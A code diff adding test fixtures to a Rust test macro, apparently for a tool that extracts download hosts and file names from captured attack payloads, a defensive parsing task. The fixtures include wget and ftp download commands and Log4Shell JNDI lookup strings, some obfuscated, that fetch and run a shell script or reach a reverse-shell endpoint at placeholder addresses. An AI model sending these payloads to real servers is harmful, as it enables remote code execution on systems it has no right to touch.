@@ -167,4 +167,8 @@ forms! {
     literal_python_os_system: b"import os;os.system('wget -O /tmp/oo http://192.0.2.57/o')" => ["http 192.0.2.57 - - - /o oo"];
     literal_xml_cmd_c_entities: b"<string>cmd /c \"echo open 192.0.2.58&gt;s&amp;echo get w.exe&gt;&gt;s&amp;ftp -A -s:s\"</string>" => ["ftp 192.0.2.58 - - - w.exe w.exe"];
     literal_curl_cookie_jar_is_no_runner: b"curl -c 'jar' http://192.0.2.64/cc" => ["http 192.0.2.64 - - - /cc cc"];
+    jndi_base64_command_in_header: b"GET / HTTP/1.1\r\nX-Api-Version: ${jndi:ldap://192.0.2.70:1389/Basic/Command/Base64/Y2QgL3RtcDsgd2dldCBodHRwOi8vMTkyLjAuMi43My9sNGouc2ggLU8gL3RtcC9rOyBzaCAvdG1wL2s=}\r\n\r\n" => ["http 192.0.2.73 - - - /l4j.sh k"];
+    jndi_obfuscated_lower_and_defaults: b"User-Agent: ${${lower:j}${::-n}di:${env:x:-l}dap://192.0.2.70/Basic/Command/Base64/Y2QgL3RtcDsgd2dldCBodHRwOi8vMTkyLjAuMi43My9sNGouc2ggLU8gL3RtcC9rOyBzaCAvdG1wL2s=}\r\n" => ["http 192.0.2.73 - - - /l4j.sh k"];
+    jndi_percent_encoded_in_header: b"Referer: %24%7Bjndi%3Aldap%3A%2F%2F192.0.2.70%2FBasic%2FCommand%2FBase64%2FY3VybCAtbyAvdG1wL3EgaHR0cDovLzE5Mi4wLjIuNzQvcQ%3D%3D%7D\r\n" => ["http 192.0.2.74 - - - /q q"];
+    jndi_reverse_shell_path_fetches_nothing: b"${jndi:ldap://192.0.2.70:1389/Basic/ReverseShell/192.0.2.9/4444}" => [];
 }
